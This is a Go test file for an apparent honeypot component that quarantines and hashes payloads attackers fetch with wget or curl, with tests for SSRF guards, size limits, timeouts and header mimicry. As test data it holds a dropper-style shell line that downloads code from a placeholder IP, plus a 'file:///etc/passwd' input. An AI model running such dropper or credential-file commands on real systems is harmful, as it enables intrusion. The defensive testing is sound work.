package fetch

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/decnet/decnet/decoys/quarantine"
	"github.com/decnet/decnet/internal/netguard"
)

// payload returns a body whose bytes vary with their offset, so a shifted
// or truncated copy hashes differently.
func payload(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(i*7 + i/251)
	}
	return b
}

func allowLoopback(prefix string) *netguard.Guard {
	return &netguard.Guard{Allow: []netip.Prefix{netip.MustParsePrefix(prefix)}}
}

// server serves body at every path and records the requests it saw.
type server struct {
	*httptest.Server
	mu       sync.Mutex
	requests []*http.Request
}

func newServer(t *testing.T, h http.HandlerFunc) *server {
	t.Helper()
	s := &server{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.requests = append(s.requests, r.Clone(context.Background()))
		s.mu.Unlock()
		h(w, r)
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *server) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.requests)
}

func serveBytes(b []byte) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(b) }
}

func openStore(t *testing.T) *quarantine.Store {
	t.Helper()
	s, err := quarantine.Open(t.TempDir(), quarantine.Options{MinFreeBytes: 1})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestFetchStoresBodyUnderItsDigest(t *testing.T) {
	body := payload(300 << 10)
	srv := newServer(t, serveBytes(body))
	store := openStore(t)
	f := New(Options{Guard: allowLoopback("127.0.0.0/8"), Quarantine: store})

	res := f.Fetch(t.Context(), "wget", srv.URL+"/bins/x86.sh#frag")
	want := sha256.Sum256(body)
	if res.Outcome != OutcomeFetched || res.Err != nil || res.Status != http.StatusOK {
		t.Fatalf("result = %+v", res)
	}
	if !bytes.Equal(res.SHA256, want[:]) || res.Size != uint64(len(body)) {
		t.Fatalf("digest %x size %d, want %x %d", res.SHA256, res.Size, want, len(body))
	}
	stored, err := os.ReadFile(store.Path(want[:]))
	if err != nil || !bytes.Equal(stored, body) {
		t.Fatalf("quarantined content differs (%d bytes, %v)", len(stored), err)
	}

	r := srv.requests[0]
	if r.URL.Path != "/bins/x86.sh" || r.Header.Get("User-Agent") != "Wget/1.21.3" ||
		r.Header.Get("Accept") != "*/*" || r.Header.Get("Accept-Encoding") != "identity" {
		t.Fatalf("request = %s %v", r.URL, r.Header)
	}
}

func TestFetchSendsToolUserAgent(t *testing.T) {
	srv := newServer(t, serveBytes([]byte("x")))
	f := New(Options{Guard: allowLoopback("127.0.0.1/32"), UserAgents: UserAgents("ubuntu2404")})
	// Without a scheme, as attackers often type it.
	host := strings.TrimPrefix(srv.URL, "http://")
	if res := f.Fetch(t.Context(), "curl", host+"/a"); res.Outcome != OutcomeFetched {
		t.Fatalf("result = %+v", res)
	}
	r := srv.requests[0]
	if ua := r.Header.Get("User-Agent"); ua != "curl/8.5.0" || r.Header.Get("Accept-Encoding") != "" {
		t.Fatalf("curl headers = %v", r.Header)
	}
}

func TestFetchWithoutQuarantineOnlyHashes(t *testing.T) {
	body := []byte("#!/bin/sh\ncd /tmp; wget http://198.51.100.1/x\n")
	srv := newServer(t, serveBytes(body))
	res := New(Options{Guard: allowLoopback("127.0.0.1/32")}).Fetch(t.Context(), "wget", srv.URL)
	want := sha256.Sum256(body)
	if res.Outcome != OutcomeFetched || !bytes.Equal(res.SHA256, want[:]) || res.Size != uint64(len(body)) {
		t.Fatalf("result = %+v", res)
	}
}

func TestFetchRefusesRedirectToAddressOutsideAllowList(t *testing.T) {
	// A listener on 127.0.0.2 plays an internal service. Only 127.0.0.1 is
	// allowed, so the listener must never see a connection.
	internal, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("cannot listen on 127.0.0.2: %v", err)
	}
	t.Cleanup(func() { _ = internal.Close() })
	var accepted atomic.Int32
	go func() {
		for {
			c, err := internal.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			_ = c.Close()
		}
	}()

	target := "http://" + internal.Addr().String() + "/secret"
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, target, http.StatusFound) })
	store := openStore(t)
	res := New(Options{Guard: allowLoopback("127.0.0.1/32"), Quarantine: store}).Fetch(t.Context(), "wget", srv.URL+"/x")

	if res.Outcome != OutcomeRefused || !errors.Is(res.Err, netguard.ErrRefused) {
		t.Fatalf("result = %+v", res)
	}
	if res.SHA256 != nil || store.TotalBytes() != 0 {
		t.Fatalf("refused fetch kept %x, store has %d bytes", res.SHA256, store.TotalBytes())
	}
	if srv.count() != 1 || accepted.Load() != 0 {
		t.Fatalf("server saw %d requests, internal listener %d connections", srv.count(), accepted.Load())
	}
}

func TestFetchDefaultGuardRefusesLoopback(t *testing.T) {
	srv := newServer(t, serveBytes([]byte("x")))
	f := New(Options{})
	for _, raw := range []string{srv.URL + "/x", "http://localhost:" + srv.URL[strings.LastIndexByte(srv.URL, ':')+1:] + "/x", "http://0x7f.1/"} {
		res := f.Fetch(t.Context(), "wget", raw)
		if res.Outcome != OutcomeRefused || !errors.Is(res.Err, netguard.ErrRefused) {
			t.Errorf("%s: result = %+v", raw, res)
		}
	}
	if srv.count() != 0 {
		t.Fatalf("server saw %d requests", srv.count())
	}
}

func TestFetchCapsSize(t *testing.T) {
	const limit = 4096
	body := payload(3 * limit)
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/exact" {
			_, _ = w.Write(body[:limit])
			return
		}
		_, _ = w.Write(body)
	})
	store := openStore(t)
	f := New(Options{Guard: allowLoopback("127.0.0.1/32"), Quarantine: store, MaxBytes: limit})

	res := f.Fetch(t.Context(), "wget", srv.URL+"/big")
	prefix := sha256.Sum256(body[:limit])
	if res.Outcome != OutcomeTooLarge || !errors.Is(res.Err, ErrTooLarge) {
		t.Fatalf("result = %+v", res)
	}
	if res.Size != limit || !bytes.Equal(res.SHA256, prefix[:]) {
		t.Fatalf("kept %d bytes with digest %x, want the first %d", res.Size, res.SHA256, limit)
	}
	if stored, err := os.ReadFile(store.Path(prefix[:])); err != nil || !bytes.Equal(stored, body[:limit]) {
		t.Fatalf("quarantined prefix differs: %v", err)
	}

	// A body of exactly the limit is complete.
	if res := f.Fetch(t.Context(), "wget", srv.URL+"/exact"); res.Outcome != OutcomeFetched || res.Size != limit {
		t.Fatalf("exact-size result = %+v", res)
	}
}

func TestFetchTimesOut(t *testing.T) {
	release := make(chan struct{})
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/trickle" {
			_, _ = w.Write([]byte("partial"))
			w.(http.Flusher).Flush()
		}
		select {
		case <-release:
		case <-r.Context().Done():
		}
	})
	t.Cleanup(func() { close(release) })
	f := New(Options{Guard: allowLoopback("127.0.0.1/32"), Timeout: 50 * time.Millisecond})

	res := f.Fetch(t.Context(), "wget", srv.URL+"/silent")
	if res.Outcome != OutcomeFailed || !errors.Is(res.Err, context.DeadlineExceeded) || res.Status != 0 {
		t.Fatalf("silent server: %+v", res)
	}
	// One second is long enough for the first bytes to arrive on loopback
	// even on a loaded machine. The deadline then cuts the stalled body.
	f = New(Options{Guard: allowLoopback("127.0.0.1/32"), Timeout: time.Second})
	res = f.Fetch(t.Context(), "wget", srv.URL+"/trickle")
	partial := sha256.Sum256([]byte("partial"))
	if res.Outcome != OutcomeFailed || res.Status != http.StatusOK || !bytes.Equal(res.SHA256, partial[:]) || res.Size != 7 {
		t.Fatalf("stalled body: %+v", res)
	}
}

func TestFetchFailsOnUnsupportedSchemeOrTool(t *testing.T) {
	f := New(Options{Guard: allowLoopback("127.0.0.1/32")})
	for _, tc := range []struct{ tool, url string }{
		{"wget", "ftp://127.0.0.1/x"},
		{"curl", "tftp://127.0.0.1/x"},
		{"curl", "file:///etc/passwd"},
		{"curl", "gopher://127.0.0.1:70/_x"},
		{"tftp", "127.0.0.1/x"},
	} {
		res := f.Fetch(t.Context(), tc.tool, tc.url)
		if res.Outcome != OutcomeFailed || !errors.Is(res.Err, ErrUnsupportedScheme) {
			t.Errorf("%s %s: %+v", tc.tool, tc.url, res)
		}
	}
}

func TestFetchReportsErrorStatus(t *testing.T) {
	srv := newServer(t, http.NotFound)
	res := New(Options{Guard: allowLoopback("127.0.0.1/32")}).Fetch(t.Context(), "wget", srv.URL+"/gone")
	var se *StatusError
	if res.Outcome != OutcomeFailed || res.Status != http.StatusNotFound || !errors.As(res.Err, &se) || se.Code != 404 {
		t.Fatalf("result = %+v", res)
	}
}

func TestFetchReusesRecentResult(t *testing.T) {
	srv := newServer(t, serveBytes([]byte("same")))
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	f := New(Options{Guard: allowLoopback("127.0.0.1/32"), Now: func() time.Time { return now }})

	first := f.Fetch(t.Context(), "wget", srv.URL+"/d")
	second := f.Fetch(t.Context(), "wget", srv.URL+"/d")
	if srv.count() != 1 || second.Outcome != OutcomeFetched || !bytes.Equal(first.SHA256, second.SHA256) {
		t.Fatalf("second fetch: %d requests, %+v", srv.count(), second)
	}
	f.Fetch(t.Context(), "curl", srv.URL+"/d")
	if srv.count() != 2 {
		t.Fatalf("another tool reused the wget result (%d requests)", srv.count())
	}
	now = now.Add(DefaultDedupeWindow)
	f.Fetch(t.Context(), "wget", srv.URL+"/d")
	if srv.count() != 3 {
		t.Fatalf("result reused after the window (%d requests)", srv.count())
	}
}

func TestFetchBoundsConcurrency(t *testing.T) {
	const slots = 2
	arrived := make(chan struct{}, slots+1)
	release := make(chan struct{})
	var releaseOnce sync.Once
	unblock := func() { releaseOnce.Do(func() { close(release) }) }
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		arrived <- struct{}{}
		<-release
		_, _ = w.Write([]byte(r.URL.Path))
	})
	// Registered after the server, so it runs before the server's Close,
	// which waits for the held handlers.
	t.Cleanup(unblock)
	f := New(Options{Guard: allowLoopback("127.0.0.1/32"), MaxConcurrent: slots, DedupeWindow: -1})

	var wg sync.WaitGroup
	results := make(chan Result, slots+1)
	for i := range slots {
		wg.Go(func() { results <- f.Fetch(t.Context(), "wget", srv.URL+"/"+string(rune('a'+i))) })
	}
	for range slots {
		<-arrived
	}

	// Every slot is taken by a download the server holds, so one more
	// fetch can only wait, and gives up when its context ends.
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if res := f.Fetch(ctx, "wget", srv.URL+"/extra"); res.Outcome != OutcomeFailed || !errors.Is(res.Err, ErrBusy) {
		t.Fatalf("fetch beyond the bound: %+v", res)
	}
	if srv.count() != slots {
		t.Fatalf("server saw %d requests, want %d", srv.count(), slots)
	}

	// Once the held downloads finish, the slots serve again.
	unblock()
	wg.Wait()
	close(results)
	for res := range results {
		if res.Outcome != OutcomeFetched {
			t.Fatalf("held fetch: %+v", res)
		}
	}
	if res := f.Fetch(t.Context(), "wget", srv.URL+"/later"); res.Outcome != OutcomeFetched {
		t.Fatalf("fetch after release: %+v", res)
	}
}

func TestNilFetcherReportsNotFetched(t *testing.T) {
	var f *Fetcher
	if res := f.Fetch(t.Context(), "wget", "http://example.com/x"); res.Outcome != OutcomeNotFetched {
		t.Fatalf("result = %+v", res)
	}
}

// TestFetchRequestMatchesRealTools compares the request bytes with those
// that wget 1.21.3 and curl 7.88.1 of Debian 12 send for the same URL
// (captured on loopback), so the fetch looks like the tool it stands for.
func TestFetchRequestMatchesRealTools(t *testing.T) {
	for tool, want := range map[string]string{
		"wget": "GET /x.sh HTTP/1.1\r\nHost: %s\r\nUser-Agent: Wget/1.21.3\r\nAccept: */*\r\n" +
			"Accept-Encoding: identity\r\nConnection: Keep-Alive\r\n\r\n",
		"curl": "GET /x.sh HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
	} {
		t.Run(tool, func(t *testing.T) {
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { _ = ln.Close() })
			got := make(chan string, 1)
			go func() {
				c, err := ln.Accept()
				if err != nil {
					got <- err.Error()
					return
				}
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(10 * time.Second))
				var head []byte
				buf := make([]byte, 512)
				for !bytes.Contains(head, []byte("\r\n\r\n")) {
					n, err := c.Read(buf)
					head = append(head, buf[:n]...)
					if err != nil {
						break
					}
				}
				got <- string(head)
				_, _ = c.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"))
			}()

			f := New(Options{Guard: allowLoopback("127.0.0.1/32")})
			res := f.Fetch(t.Context(), tool, "http://"+ln.Addr().String()+"/x.sh")
			if res.Outcome != OutcomeFetched {
				t.Fatalf("result = %+v", res)
			}
			if head, want := <-got, fmt.Sprintf(want, ln.Addr()); head != want {
				t.Fatalf("request =\n%q\nwant\n%q", head, want)
			}
		})
	}
}

func TestFetchFollowsRedirectLikeWget(t *testing.T) {
	body := []byte("stage two")
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/short" {
			http.Redirect(w, r, "/payload", http.StatusMovedPermanently)
			return
		}
		_, _ = w.Write(body)
	})
	res := New(Options{Guard: allowLoopback("127.0.0.1/32")}).Fetch(t.Context(), "wget", srv.URL+"/short")
	want := sha256.Sum256(body)
	if res.Outcome != OutcomeFetched || !bytes.Equal(res.SHA256, want[:]) {
		t.Fatalf("result = %+v", res)
	}
	if srv.count() != 2 {
		t.Fatalf("server saw %d requests, want 2", srv.count())
	}
	second := srv.requests[1]
	if second.URL.Path != "/payload" || second.Header.Get("Referer") != "" || second.Header.Get("User-Agent") != "Wget/1.21.3" {
		t.Fatalf("redirected request = %s %v", second.URL, second.Header)
	}
}
